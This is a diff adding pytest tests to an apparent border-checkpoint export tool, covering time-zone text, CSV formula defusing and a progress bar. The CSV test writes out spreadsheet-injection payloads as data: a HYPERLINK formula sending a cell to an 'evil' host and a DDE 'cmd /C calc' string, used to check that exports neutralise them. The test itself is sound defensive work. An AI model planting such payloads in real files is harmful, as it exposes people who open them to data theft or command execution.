@@ -3,6 +3,7 @@ from __future__ import annotations
 import io
 import zipfile
 from datetime import datetime, timedelta
+from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
@@ -107,3 +108,69 @@ def test_xlsx_starts_a_new_sheet_at_excels_row_limit(monkeypatch: pytest.MonkeyP
     assert [[c.value for c in row] for row in wb["Crossings (2)"].iter_rows()] == [["n"], [2], [3]]
     assert MAX_ROWS == 1_048_576
     assert zipfile.ZipFile(io.BytesIO(buf.getvalue())).testzip() is None
+
+
+def test_local_time_text_matches_the_slow_conversion_for_any_zone() -> None:
+    from zoneinfo import ZoneInfo
+
+    from checkpoint.export.columns import PersonalMode, RowMaker
+    from checkpoint.export.engine import instant
+
+    texts = ["2021-07-24T16:59:59.999999Z", "2021-07-24T17:00:00Z", "2021-03-28T00:59:59.000000Z",
+             "2021-03-28T01:00:00.000000Z", "2021-10-31T00:30:00+00:00", "2021-07-24T07:15:30.5+07:00"]
+    for zone in ("Asia/Ho_Chi_Minh", "Asia/Kolkata", "Europe/Paris", "UTC"):
+        tz = ZoneInfo(zone)
+        maker = RowMaker(PersonalMode.SEALED, "vi", tz, time_text=True)
+        for t in texts * 2:  # the second pass comes from the per-hour cache
+            at = instant(t)
+            assert maker.local_text(t, at) == at.astimezone(tz).strftime("%Y-%m-%d %H:%M:%S"), (zone, t)
+
+
+def test_csv_export_defuses_formulas_typed_by_people(tmp_path: Path) -> None:
+    import csv
+    from dataclasses import replace
+    from datetime import timezone
+
+    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+    from checkpoint import sealing
+    from checkpoint.clock import FixedClock
+    from checkpoint.export import ExportRequest, Format, export
+    from checkpoint.export.source import rows_of
+    from tests.export.crossing_rows import crossing
+
+    sup = sealing.generate()
+    evil = PersonalData('=HYPERLINK("http://evil/?"&A1,"bấm")', "001085012345", origin="+cmd|' /C calc'!A0")
+    c = replace(crossing(1, personal=evil, seal_to=sup.public_key()), officer_id="@SUM(1+1)", category="-2+3")
+    out = tmp_path / "x.csv"
+    export(rows_of([c]), ExportRequest(out, Format.CSV, timezone(timedelta(hours=7)), "UTC+07:00"), station_id="S",
+           station_key=Ed25519PrivateKey.generate(), clock=FixedClock(T0), supervisor_key=sup,
+           audit=lambda a, d: None)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        line = list(csv.reader(f))[1]
+    assert line[5] == "'@SUM(1+1)" and line[8] == "'-2+3"
+    assert line[12] == "'" + (evil.name or "") and line[17] == "'" + (evil.origin or "")
+
+
+def test_progress_bar_draws_on_a_terminal_only() -> None:
+    import io
+
+    from checkpoint.cli.progress import ProgressBar
+
+    class Tty(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    tty = Tty()
+    bar = ProgressBar("export x.csv", tty)
+    bar.status("checking the log…")
+    bar(50, 100)
+    bar(100, 100)
+    bar.done()
+    out = tty.getvalue()
+    assert "checking the log…" in out and " 50%" in out and "100%" in out and out.endswith("\n")
+    plain = io.StringIO()
+    quiet = ProgressBar("export x.csv", plain)
+    quiet(50, 100)
+    quiet.done()
+    assert plain.getvalue() == ""
